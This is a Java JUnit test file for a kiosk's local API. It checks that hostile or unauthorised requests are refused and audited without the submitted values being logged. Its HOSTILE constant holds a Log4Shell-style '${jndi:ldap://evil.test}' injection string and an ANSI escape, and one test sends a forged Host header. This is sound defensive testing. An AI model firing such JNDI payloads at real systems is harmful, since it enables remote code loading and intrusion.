package egov.kiosk.localapi;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import egov.kiosk.domain.audit.AuditActor;
import egov.kiosk.domain.audit.AuditAttribute;
import egov.kiosk.domain.audit.AuditEvent;
import egov.kiosk.domain.audit.AuditLog;
import egov.kiosk.domain.retention.Due;
import egov.kiosk.domain.retention.Holding;
import egov.kiosk.domain.retention.RetentionDesk;
import egov.kiosk.domain.retention.RetentionRefusedException;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What no screen and no technician sends is refused with one record, without what was sent. */
class RefusedRequestsTest {
  private static final String HOSTILE = "11010519491231002X${jndi:ldap://evil.test}\u001b[31m";

  @TempDir Path directory;
  private final List<AuditEvent> heard = new CopyOnWriteArrayList<>();
  private volatile boolean serving;
  private ServedApi served;

  @BeforeEach
  void open() throws IOException {
    served = new ServedApi(directory.resolve("run"));
    served.audit =
        new AuditLog() {
          @Override
          public void record(AuditEvent event) {
            heard.add(event);
          }

          @Override
          public void require(AuditEvent event) {
            heard.add(event);
          }
        };
    served.retention =
        new RetentionDesk() {
          @Override
          public int days(Holding holding) {
            return holding.days();
          }

          @Override
          public List<Outcome> look() {
            return List.of(
                new Outcome(Holding.QUEUE_LABELS, 30, Due.one(Instant.EPOCH), ""),
                new Outcome(Holding.QUEUE_SET_ASIDE, 90, Due.NOTHING, "the queue is not open"));
          }

          @Override
          public List<Outcome> run(AuditActor actor) throws RetentionRefusedException {
            if (serving) {
              throw new RetentionRefusedException(RetentionRefusedException.Reason.SERVING);
            }
            return look();
          }
        };
  }

  @AfterEach
  void close() {
    served.close();
  }

  private List<String> reasons() {
    return heard.stream()
        .map(one -> one.action().word() + " " + one.attributes().get(AuditAttribute.REASON))
        .toList();
  }

  @Test
  @DisplayName("H04 hostile values in requests: one record a reason, without them")
  void h04_hostileRequests_oneRecordAReasonWithoutTheValue() throws IOException {
    for (int i = 0; i < 5; i++) {
      served.raw("GET /api/kiosk HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n");
      served.raw(
          "GET /api/kiosk HTTP/1.1\r\nHost: "
              + served.host()
              + "\r\nAuthorization: Bearer 11010519491231002X\r\nConnection: close\r\n\r\n");
      served.order("/api/outbox/retry", "{\"id\":" + HOSTILE);
    }
    assertEquals(
        List.of(
            "request.refused WRONG_HOST", "request.refused NO_TOKEN", "request.refused BAD_JSON"),
        reasons());
    for (AuditEvent event : heard) {
      String said = event + " " + event.attributes() + " " + event.subject().text();
      assertFalse(said.contains("1101") || said.contains("evil"), said);
    }
  }

  @Test
  void goodRequests_leaveNoRecord() throws IOException {
    assertEquals(200, ServedApi.status(served.get("/api/kiosk", "")));
    assertEquals(404, ServedApi.status(served.get("/nothing", "")));
    assertEquals(List.of(), heard);
  }

  @Test
  void retention_tableAndRun_areText_andNeedTheTechniciansToken() throws IOException {
    String table = served.get("/api/retention/table.txt", "");
    assertTrue(table.contains("R-04  personal         30 days"), table);
    String due = served.get("/api/retention/due.txt", "");
    assertTrue(due.contains("over 30 days: 1") && due.contains("1970-01-01"), due);
    assertTrue(due.contains("the queue is not open"), due);
    assertEquals(200, ServedApi.status(served.order("/api/retention/run", "{}")));
    assertEquals(
        401, ServedApi.status(served.post("/api/retention/run", "application/json", "{}")));
    serving = true;
    String refused = served.order("/api/retention/run", "{}");
    assertEquals(409, ServedApi.status(refused));
    assertTrue(refused.contains("RETENTION_SERVING"), refused);
  }
}
